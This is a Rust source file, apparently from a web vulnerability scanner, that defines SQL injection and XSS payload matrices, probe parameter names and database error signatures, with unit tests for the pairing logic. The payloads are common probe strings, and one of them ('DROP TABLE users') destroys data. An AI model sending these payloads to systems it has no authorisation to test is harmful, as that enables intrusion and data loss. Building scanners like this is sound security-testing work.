// src/core/payloads.rs

//! Static payload matrices for the injection probes.
//!
//! A matrix is the ordered cross product of test parameter names and attack
//! strings. Matrices are versioned so stored reports say which payload set
//! produced them, and they are never mutated during a scan.

use crate::config::InjectionLimits;
use crate::core::models::ProbeCategory;

pub struct PayloadMatrix {
    pub category: ProbeCategory,
    pub version: &'static str,
    pub parameters: &'static [&'static str],
    pub payloads: &'static [&'static str],
}

impl PayloadMatrix {
    /// The (parameter, payload) pairs in order, parameter-major, truncated to
    /// the configured depth caps.
    pub fn pairs(&self, limits: &InjectionLimits) -> Vec<(&'static str, &'static str)> {
        let parameters = limits
            .max_parameters
            .map_or(self.parameters, |max| &self.parameters[..max.min(self.parameters.len())]);
        let payloads = limits
            .max_payloads
            .map_or(self.payloads, |max| &self.payloads[..max.min(self.payloads.len())]);

        parameters
            .iter()
            .flat_map(|param| payloads.iter().map(move |payload| (*param, *payload)))
            .collect()
    }

    pub fn len(&self) -> usize {
        self.parameters.len() * self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

pub static SQLI_MATRIX: PayloadMatrix = PayloadMatrix {
    category: ProbeCategory::SqlInjection,
    version: "sqli-v1",
    parameters: &["id", "user", "username", "search", "q", "name", "email"],
    payloads: &[
        "' OR '1'='1",
        "' OR 1=1--",
        "' UNION SELECT NULL--",
        "'; DROP TABLE users--",
        "' OR 'x'='x",
        "1' OR '1'='1' #",
        "admin'--",
        "' OR 1=1/*",
    ],
};

pub static XSS_MATRIX: PayloadMatrix = PayloadMatrix {
    category: ProbeCategory::Xss,
    version: "xss-v1",
    parameters: &["search", "q", "name", "comment", "message", "input"],
    payloads: &[
        "<script>alert('XSS')</script>",
        "<img src=x onerror=alert('XSS')>",
        "<svg onload=alert('XSS')>",
        "javascript:alert('XSS')",
        "<iframe src=javascript:alert('XSS')>",
        "'><script>alert('XSS')</script>",
        "\"><script>alert('XSS')</script>",
        "<body onload=alert('XSS')>",
    ],
};

/// Lowercase database error fragments that betray an injectable query.
pub const SQL_ERROR_SIGNATURES: &[&str] = &[
    "sql syntax",
    "mysql_fetch",
    "ora-",
    "microsoft ole db",
    "sqlite_",
    "postgresql",
    "warning: mysql",
    "valid mysql result",
    "mysqlclient",
    "sql server",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pairs_are_parameter_major() {
        let pairs = SQLI_MATRIX.pairs(&InjectionLimits::default());
        assert_eq!(pairs.len(), SQLI_MATRIX.len());
        assert_eq!(pairs[0], ("id", "' OR '1'='1"));
        assert_eq!(pairs[1], ("id", "' OR 1=1--"));
        assert_eq!(pairs[SQLI_MATRIX.payloads.len()].0, "user");
    }

    #[test]
    fn depth_caps_truncate_both_axes() {
        let limits = InjectionLimits {
            max_parameters: Some(2),
            max_payloads: Some(3),
            ..InjectionLimits::default()
        };
        let pairs = XSS_MATRIX.pairs(&limits);
        assert_eq!(pairs.len(), 6);
        assert!(pairs.iter().all(|(p, _)| *p == "search" || *p == "q"));
    }

    #[test]
    fn oversized_caps_are_clamped() {
        let limits = InjectionLimits {
            max_parameters: Some(100),
            max_payloads: Some(100),
            ..InjectionLimits::default()
        };
        assert_eq!(SQLI_MATRIX.pairs(&limits).len(), SQLI_MATRIX.len());
    }
}
